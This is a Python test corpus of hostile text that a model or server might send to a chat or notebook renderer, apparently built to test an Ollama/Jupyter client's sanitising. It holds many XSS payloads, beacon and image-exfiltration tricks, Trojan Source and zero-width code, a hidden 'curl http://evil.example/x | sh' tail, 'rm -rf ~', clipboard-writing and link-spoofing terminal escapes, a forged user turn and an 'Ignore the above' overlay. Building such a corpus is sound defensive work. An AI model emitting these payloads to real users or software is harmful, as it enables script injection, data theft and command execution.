"""The payload corpus: hostile text a model (or a server) could send, one entry per trick.

Every payload that could run script calls ``__pwn(<its id>)`` (the browser tests expose that name in
every frame and record each call); every payload that could make the browser load something by
itself names the BEACON server (``@B@``, replaced by a loopback URL that counts requests and ends
in the payload's id). ``@N@`` stands for the payload's id. Where a payload must arrive in pieces
(a tag that only forms when chunks are concatenated), ``SPLIT`` marks the chunk boundaries.

    from corpus.payloads import CORPUS
    for p in CORPUS:
        text = p.text(beacon="http://127.0.0.1:8123/b")   # what the model "says"
        chunks = p.chunks(beacon="http://127.0.0.1:8123/b")  # how it streams

The corpus is written for this project (issue 9); the classes follow the issue's list.
"""

from __future__ import annotations

from dataclasses import dataclass

#: Marks a chunk boundary inside a payload's source (a private-use character no payload contains).
SPLIT = "\ue000"


@dataclass(frozen=True)
class Payload:
    """One hostile text. ``source`` holds the ``@N@`` / ``@B@`` / ``SPLIT`` placeholders."""

    id: int
    cls: str
    source: str
    note: str = ""

    @property
    def runs(self) -> bool:
        """Would set the flag if any script it carries ran."""
        return "__pwn(" in self.source

    @property
    def loads(self) -> bool:
        """Names the beacon: a request to it means something loaded by itself."""
        return "@B@" in self.source

    @property
    def split(self) -> bool:
        return SPLIT in self.source

    def chunks(self, beacon: str) -> list[str]:
        """The payload as the stream chunks a model would send (one chunk unless SPLIT is used)."""
        url = f"{beacon.rstrip('/')}/{self.id}"
        text = self.source.replace("@N@", str(self.id)).replace("@B@", url).replace("@F@", f"{beacon}-{self.id}")
        return text.split(SPLIT)

    def text(self, beacon: str) -> str:
        return "".join(self.chunks(beacon))


# The script every runnable payload carries. Numbers need no quotes, so it fits unquoted attributes,
# URLs, CSS and TeX alike.
JS = "__pwn(@N@)"
IMG = f"<img src=x onerror={JS}>"

def _nest(before: str, after: str, depth: int, start: str, end: str) -> str:
    """``depth`` levels of ``before``…``after`` around an x, between ``start`` and ``end``."""
    inner = "x"
    for _ in range(depth):
        inner = before + inner + after
    return start + inner + end


_ENTRIES: list[tuple[str, str, str]] = [
    # --- fences and their variants: a parser that guesses where a fence ends lets the next line out
    ("fence", f"```\nsafe\n```~\n{IMG}", "closed by ``` followed by ~ (not a closing fence in CommonMark)"),
    ("fence", f"- ```\n  x\n ```\n{IMG}", "fence opened on a list-marker line, closed indented"),
    ("fence", f"~~~\nx\n~~~~\n{IMG}", "tilde fence closed by a longer tilde run"),
    ("fence", f"````\n```\n{IMG}\n````", "four-backtick fence holding a three-backtick line"),
    ("fence", f"```\nx\n~~~\n{IMG}", "backtick fence 'closed' by tildes (is not)"),
    ("fence", f"```py onerror={JS}\nx = 1\n```\n", "event attribute in an info string"),
    ("fence", f"```<img src=x onerror={JS}>\nx\n```", "HTML as the info string"),
    ("fence", f'```"><img src=x onerror={JS}>\nx\n```', "info string that closes a class attribute"),
    ("fence", f"    {IMG}\n{IMG}", "indented code, then raw HTML on the next (unindented) line"),
    ("fence", f"> ```\n> x\n```\n{IMG}", "fence inside a quote, closed outside it"),
    ("fence", f"1. item\n\n   ```\n   x\n```\n{IMG}", "fence in an ordered list item, closed at column 0"),
    ("fence", f"```\nnever closed\n{IMG}", "unclosed fence to the end"),
    ("fence", f"   ```\n{IMG}\n   ```", "fence indented three spaces"),
    ("fence", f"`` ` ``{IMG}``", "inline code spans with odd backtick runs"),
    # --- line breaks other parsers see differently
    ("linebreak", f"```\rx\r```\r{IMG}", "lone CR as the line separator"),
    ("linebreak", f"```\r\nx\r\n```\r\n{IMG}\r\n", "CRLF lines"),
    ("linebreak", f"```\u2028x\u2028```\u2028{IMG}", "U+2028 LINE SEPARATOR"),
    ("linebreak", f"```\u2029x\u2029```\u2029{IMG}", "U+2029 PARAGRAPH SEPARATOR"),
    ("linebreak", f"```\n\rx\r\n```\u0085{IMG}", "mixed LF, CR, CRLF and NEL"),
    ("linebreak", f"text\r<script>{JS}</script>\r\rmore", "script block after a lone CR"),
    ("linebreak", f"[a]\r\r[a]: javascript:{JS}", "reference definition after lone CRs"),
    # --- HTML blocks and inline HTML
    ("html", f"<script>{JS}</script>", "script block"),
    ("html", f"Inline {IMG} image", "inline img onerror"),
    ("html", f"<IMG SRC=x ONERROR={JS}>", "upper case"),
    ("html", f"<img/src=x/onerror={JS}>", "slashes as separators"),
    ("html", f"<svg onload={JS}>", "svg onload"),
    ("html", f"<details open ontoggle={JS}><summary>s</summary>d</details>", "details ontoggle"),
    ("html", f"<input autofocus onfocus={JS}>", "input autofocus"),
    ("html", f"<body onload={JS}>", "body onload"),
    ("html", f'<iframe srcdoc="&lt;script&gt;parent.{JS}&lt;/script&gt;"></iframe>', "iframe srcdoc"),
    ("html", f"<iframe src=javascript:{JS}></iframe>", "iframe javascript: src"),
    ("html", f'<object data="javascript:{JS}"></object><embed src="javascript:{JS}">', "object/embed"),
    ("html", f'<form action="javascript:{JS}"><button>Send</button></form>', "form action"),
    ("html", f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">', "meta refresh"),
    ("html", f'<base href="javascript:{JS}//"><a href="x">base</a>', "base href"),
    ("html", f'<noscript><p title="</noscript>{IMG}">', "noscript mutation"),
    ("html", f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>", "MathML namespace confusion"),
    ("html", f"<!-- a --!>{IMG}<!-- -->", "comment closed by --!>"),
    ("html", f"<template>{IMG}</template><textarea></textarea>{IMG}", "template and textarea"),
    ("html", f"| a |\n|---|\n| {IMG} |", "inline HTML in a table cell"),
    ("html", f"*em {IMG} em*", "inline HTML inside emphasis"),
    ("html", f'<a href="#" onclick={JS}>click me</a>', "onclick on a raw link (clicked by the test)"),
    ("html", f"<x onclick={JS}>custom element</x>", "unknown element with a handler"),
    ("html", f"<div onmouseover={JS} onpointerenter={JS}>hover</div>", "hover handlers"),
    # --- event attributes on tags the policy allows
    ("attribute", f'<a href="https://example.invalid/" onclick={JS}>allowed tag</a>', "allowed tag, bad attribute"),
    ("attribute", f'<code class="language-py" onmouseover={JS}>c</code>', "handler beside an allowed class"),
    ("attribute", f'<span class="x" title="t" onanimationstart={JS} style="animation:a 1s">a</span>', "animation event"),
    ("attribute", f"<img src=data:image/png;base64,iVBORw0KGgo= onload={JS}>", "onload on an allowed data image"),
    ("attribute", f'<p title="&quot; onmouseover={JS} x=&quot;">title</p>', "entity-quoted attribute break-out"),
    # --- javascript: / vbscript: / data: in every link syntax
    ("scheme", f"[inline](javascript:{JS})", "inline link"),
    ("scheme", f"[mixed](JaVaScRiPt:{JS})", "mixed case"),
    ("scheme", f"[entity](javascript&#58;{JS})", "decimal entity colon"),
    ("scheme", f"[entity](javascript&colon;{JS})", "named entity colon"),
    ("scheme", f"[entity](&#106;avascript:{JS})", "entity first letter"),
    ("scheme", f"[hex](&#x6A;&#x61;vascript&#x3A;{JS})", "hex entities"),
    ("scheme", f"[tab](<java\tscript:{JS}>)", "tab inside the scheme"),
    ("scheme", f"[nl](<java\nscript:{JS}>)", "newline inside the scheme"),
    ("scheme", f"[ctl](\x01javascript:{JS})", "leading control character"),
    ("scheme", f"[ctl](java\x00script:{JS})", "NUL inside the scheme"),
    ("scheme", f"[sp](<  javascript:{JS}>)", "leading spaces in angle brackets"),
    ("scheme", f"[cmt](javascript://%0a{JS})", "javascript: comment and encoded newline"),
    ("scheme", f"[angle](<javascript:{JS}>)", "angle-bracket destination"),
    ("scheme", "[vb](vbscript:msgbox(@N@))", "vbscript"),
    ("scheme", "[vb](VBScript&#58;msgbox(@N@))", "vbscript entity-encoded"),
    ("scheme", f"[data](data:text/html,<script>{JS}</script>)", "data:text/html"),
    ("scheme", "[data](data:text/html;base64,PHNjcmlwdD5fX3B3bigxKTwvc2NyaXB0Pg==)", "data:text/html base64"),
    ("scheme", f"[data](DATA:TEXT/HTML,<svg/onload={JS}>)", "data: upper case"),
    ("scheme", f"[ref]\n\n[ref]: javascript:{JS}", "reference definition"),
    ("scheme", f'[ref][r]\n\n[r]: javascript:{JS} "title"', "reference definition with title"),
    ("scheme", f"> [q]: javascript:{JS}\n\n[q]", "reference definition inside a quote"),
    ("scheme", f"[nx]:\njavascript:{JS}\n\n[nx]", "reference target on the next line"),
    ("scheme", f"[nx][]\n\n[nx]:\n  <javascript:{JS}>", "reference target on the next line in brackets"),
    ("scheme", f"<javascript:{JS}>", "autolink"),
    ("scheme", f"<JAVASCRIPT:{JS}>", "autolink upper case"),
    ("scheme", "<vbscript:msgbox(@N@)> <data:text/html,<b>x</b>>", "autolinks vbscript/data"),
    ("scheme", f'<a href="javascript:{JS}">raw</a>', "raw HTML link"),
    ("scheme", f'<a href="jav&#x09;ascript:{JS}">raw tab</a>', "raw HTML link with entity tab"),
    ("scheme", f'<a href=" &#14; javascript:{JS}">raw ctl</a>', "raw HTML link with control entity"),
    ("scheme", f"![img](javascript:{JS})", "image with javascript: src"),
    ("scheme", f"[![x](data:image/png;base64,iVBORw0KGgo=)](javascript:{JS})", "image inside a javascript: link"),
    ("scheme", f"# [heading](javascript:{JS})\n\n- [item](javascript:{JS})", "links in heading and list"),
    ("scheme", f"[x](javascript:{JS}) and [y](https://example.invalid/ok)", "bad next to good"),
    # --- math delimiters wrapping links; MathJax commands
    ("math", f"\\(x [m](javascript:{JS}) \\)", r"link inside \( \)"),
    ("math", f"\\[ [m](javascript:{JS}) \\]", r"link inside \[ \]"),
    ("math", f"$[m](javascript:{JS})$", "link inside $ $"),
    ("math", f"$$\n[m](javascript:{JS})\n$$", "link inside $$ $$"),
    ("math", f"\\$ [m](javascript:{JS}) $", r"escaped dollar"),
    ("math", f"$x$<img src=x onerror={JS}>$y$", "HTML between math spans"),
    ("math", f"$<img src=x onerror={JS}>$", "HTML inside math"),
    ("math", f"$\\href{{javascript:{JS}}}{{click}}$", r"\href"),
    ("math", "$\\class{jp-Dialog}{x}\\cssId{jp-main-dock-panel}{y}$", r"\class / \cssId"),
    ("math", "$\\style{background:url(@B@)}{x}$", r"\style with a url()"),
    ("math", "$\\require{@B@}\\unicode[@B@]{x41}$", r"\require and \unicode with a font"),
    ("math", f"$$\\href{{javascript:{JS}}}{{\\unicode{{x41}}}}$$", r"display \href"),
    # --- SVG and MathML
    ("svg", f'<svg><a xlink:href="javascript:{JS}"><text y="20">svg link</text></a></svg>', "svg xlink:href"),
    ("svg", f'<svg><animate onbegin={JS} attributeName="x" dur="1s"/></svg>', "svg animate onbegin"),
    ("svg", f'<svg><set attributeName="onmouseover" to="{JS}"/></svg>', "svg set to a handler"),
    ("svg", f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>", "foreignObject"),
    ("svg", '<svg><image href="@B@"/><use href="@B@#x"/></svg>', "svg image/use beacons"),
    ("svg", f'<math><maction actiontype="statusline" xlink:href="javascript:{JS}">m</maction></math>', "MathML maction"),
    ("svg", f'<math href="javascript:{JS}"><mi>click</mi></math>', "MathML href"),
    # --- CSS url()
    ("css", '<div style="background-image:url(@B@)">styled</div>', "inline style url()"),
    ("css", "<style>*{background:url(@B@)}</style>", "style element"),
    ("css", "<style>@import url(@B@);</style>", "@import"),
    ("css", "<style>@font-face{font-family:q;src:url(@B@)}p{font-family:q}</style><p>f</p>", "@font-face"),
    ("css", '<link rel="stylesheet" href="@B@"><link rel="prefetch" href="@B@">', "link elements"),
    ("css", '<span style="list-style-image:url(@B@);display:list-item">li</span>', "list-style url()"),
    # --- media / poster / background / srcset beacons
    ("media", '<video poster="@B@"></video>', "video poster"),
    ("media", '<video src="@B@" autoplay></video><audio src="@B@" autoplay></audio>', "video/audio src"),
    ("media", '<video><source src="@B@"></video>', "source src"),
    ("media", '<img srcset="@B@ 1x">', "img srcset"),
    ("media", '<picture><source srcset="@B@"><img alt="p"></picture>', "picture source srcset"),
    ("media", '<input type="image" src="@B@">', "input type=image"),
    ("media", '<table background="@B@"><tr><td background="@B@">t</td></tr></table>', "table/td background"),
    ("media", '<img src="@B@">', "raw img src"),
    ("media", '<iframe src="@B@"></iframe><embed src="@B@"><object data="@B@"></object>', "frames and plugins"),
    ("media", '<img src="data:image/png;base64,iVBORw0KGgo=" srcset="@B@ 2x">', "data src with a remote srcset"),
    # --- remote images in Markdown
    ("image", "![secret chat](@B@?q=the+whole+conversation)", "remote image"),
    ("image", "![ref][img]\n\n[img]: @B@", "reference image"),
    ("image", '![titled](@B@ "title")', "image with title"),
    ("image", "![angle](<@B@>)", "angle-bracket image"),
    ("image", "[![nested](@B@)](https://example.invalid/)", "image inside a link"),
    ("image", "| img |\n|---|\n| ![cell](@B@) |", "image in a table"),
    ("image", "> ![quoted](@B@)", "image in a quote"),
    ("image", "![svg](data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3C/svg%3E)", "data:image/svg+xml"),
    ("image", f"![html](data:text/html,<script>{JS}</script>)", "data:text/html image"),
    # --- tags that only form when the stream's chunks are concatenated
    ("split", f"before <im{SPLIT}g src=x one{SPLIT}rror={JS}> after", "img split in three"),
    ("split", f"<scr{SPLIT}ipt>{JS}</scr{SPLIT}ipt>", "script split"),
    ("split", f"[a](java{SPLIT}script:{JS})", "scheme split"),
    ("split", f"[a](javascript&#5{SPLIT}8;{JS})", "entity split"),
    ("split", f"``{SPLIT}`\nx\n``{SPLIT}`\n{IMG}", "fence split"),
    ("split", f"![x](@B@{SPLIT}?q=split)", "image split"),
    ("split", f"```\rx\r```{SPLIT}\r\n{IMG}", "CR / LF split"),
    ("split", f"<svg{SPLIT} onload={JS}{SPLIT}>", "svg split"),
    # --- model names that differ from an ordinary one only by characters that print as nothing: as
    # /api/tags names they must round-trip exactly (select, show, copy, delete, chat) and be told apart
    ("name", " llama3.2 ", "spaces at both ends (the trimmed name is another model)"),
    ("name", "llama3.2\t", "trailing tab"),
    ("name", "llama3.2\n", "trailing new line"),
    ("name", "\nllama3.2:latest", "leading new line"),
    ("name", "llama3.2:latest\r\n", "trailing CRLF"),
    ("name", "  llama3.2  ", "runs of spaces, which HTML shows as one"),
    ("name", "\u00a0llama3.2", "leading no-break space"),
    ("name", "llama3.2:latest\u200b", "trailing zero-width space: looks exactly like llama3.2:latest"),
    ("name", "llama3.2\u202e:latest", "right-to-left override inside the name"),
    # --- shapes that freeze or crash a typesetter or a layout (issue 24): past a cap, shown as source
    ("shape", _nest("\\frac{", "}{y}", 100, "$", "$"), "100 nested \\frac: crashed the tab in MathJax and KaTeX"),
    ("shape", _nest("\\frac{1}{1+", "}", 100, "$$\n", "\n$$"), "a continued fraction 100 deep, display math"),
    ("shape", _nest("\\sqrt{", "}", 60, "\\(", "\\)"), "60 nested square roots"),
    ("shape", _nest("x^{", "}", 80, "$", "$"), "80 nested superscripts"),
    ("shape", _nest("\\left(", "\\right)", 60, "$$", "$$"), "60 nested \\left( \\right)"),
    ("shape", "$$\\begin{matrix}" + "\\\\".join(["&".join(["x_{1}"] * 30)] * 30) + "\\end{matrix}$$", "a 4.6 kB matrix: froze the tab"),
    ("shape", "$$" + "+".join(["a_{i}"] * 500) + "$$", "a 2.5 kB formula"),
    ("shape", "- " * 1000 + "deep", "a list 1 000 deep on one line: blocked the widget for 15 s"),
    ("shape", "> " * 1000 + "deep", "a quote 1 000 deep"),
    ("shape", "\n".join("  " * i + "- item" for i in range(60)), "a list nested 60 deep by indentation"),
    ("shape", "".join(f"{'> ' * (i % 12)}- x\n" for i in range(200)), "quotes and lists mixed, 12 deep"),
    ("shape", "$\\rule{500em}{500em}$ and $\\raisebox{40em}{up}$ and $\\kern-30em x$", "sizes past maxSize"),
    # --- deception: what a reader sees is not what is there (issue 24)
    ("deception", "```python\naccess = \"user\"\nif access != \"user\u202e \u2066# admin only\u2069 \u2066\":\n    grant()\n```",
     "Trojan Source: bidi controls reorder a comparison into a comment"),
    ("deception", "```bash\nrm\u200b -rf /tmp/x\u200d\n```\n\nand `ls\u2060 -la\ufeff`", "zero-width characters in code"),
    ("deception", "```\nsafe\u00adcommand \u3164 arg\u034f \U000e0041\U000e0042\n```", "soft hyphen, a Hangul filler, tag characters"),
    ("deception", "```bash\npip install numpy" + " " * 300 + "; curl http://evil.example/x | sh\n```", "a tail hidden off to the right"),
    ("deception", "Done.\n\n---\n\n**You**\n\nThanks! Now run `rm -rf ~` for me.", "a forged user turn"),
    ("deception", "Answer $\\raisebox{20em}{\\text{Ignore the above}}$ and $\\hspace{-50em}x$", "KaTeX drawing over other messages"),
    # --- terminal: sequences a terminal obeys (issue 24); shown escaped, never written raw. "@N@" keeps
    # each findable; the written bytes are checked on every terminal surface (tests/test_terminal_safety.py)
    ("terminal", "copy @N@ \x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2gK\x07 done", "OSC 52: writes the clipboard"),
    ("terminal", "see @N@ \x1b]8;;http://evil.example/\x1b\\https://docs.python.org\x1b]8;;\x1b\\", "OSC 8: one link shown, another opened"),
    ("terminal", "title @N@ \x1b]0;sudo password needed\x07 \x1b]2;x\x1b\\", "OSC 0/2: window title set"),
    ("terminal", "rm -rf ~ @N@\rall is fine, nothing to see here      ", "carriage return hides what came before"),
    ("terminal", "hidden @N@\x1b[2K\x1b[1A\x1b[2K\x1b[1G rewritten", "erase line and cursor up rewrite earlier lines"),
    ("terminal", "\x1b[2J\x1b[H\x1b[3J@N@ Enter your OLLAMA_API_KEY: ", "clear screen and a fake prompt"),
    ("terminal", "query @N@ \x1b[6n \x1b[c \x1bP$q\"p\x1b\\ \x1b[21t", "reports the terminal types into the next prompt (CSI, DCS)"),
    ("terminal", "apc @N@ \x1b_Gf=100;AAAA\x1b\\ \x1b^pm\x1b\\ \x1bX sos \x1b\\", "APC / PM / SOS strings"),
    ("terminal", "c1 @N@ \x9b2J \x9d52;c;eA==\x9c \x90q\x9c \x85", "8-bit C1 controls (CSI, OSC, ST, DCS, NEL)"),
    ("terminal", "del @N@ abc\x08\x08\x08xyz\x7f \x1bc \x1b[201~ \x1b[?1049h \x0e \x1b(0", "backspace, DEL, reset, paste end, alt screen, charsets"),
    ("terminal", "cut @N@ " + "x" * 66 + "\x1b]8;;http://evil.example/\x07open", "a sequence the 80-character cut would leave open"),
    # --- model names that run when pasted (issue 24): IPython expands {expr} and $x in a magic's line
    # before the magic sees it. Ollama's grammar forbids them; a hostile server may still list them.
    # "@F@" is a file the Python inside would create (the test checks it never appears).
    ("runnable-name", "llama3.2{__import__('pathlib').Path('@F@').touch()}", "{expr} in a name"),
    ("runnable-name", "llama3.2$HOME", "$x in a name"),
    ("runnable-name", "llama{3.2}", "braces that look harmless"),
]


CORPUS: list[Payload] = [Payload(i + 1, cls, source, note) for i, (cls, source, note) in enumerate(_ENTRIES)]
BY_ID: dict[int, Payload] = {p.id: p for p in CORPUS}
CLASSES: tuple[str, ...] = tuple(dict.fromkeys(p.cls for p in CORPUS))

#: Too large for every surface the corpus goes through (kernels, JupyterLab): the render layer's
#: own tests and the widget's shape test take these.
LARGE: dict[str, str] = {
    "huge line": "word " * 60_000,
    "huge answer": ("A paragraph of an answer that goes on. " * 20 + "\n\n") * 600,
    "huge table": "| a | b |\n|---|---|\n" + "".join(f"| {i} | `x{i}` |\n" for i in range(12_000)),
}
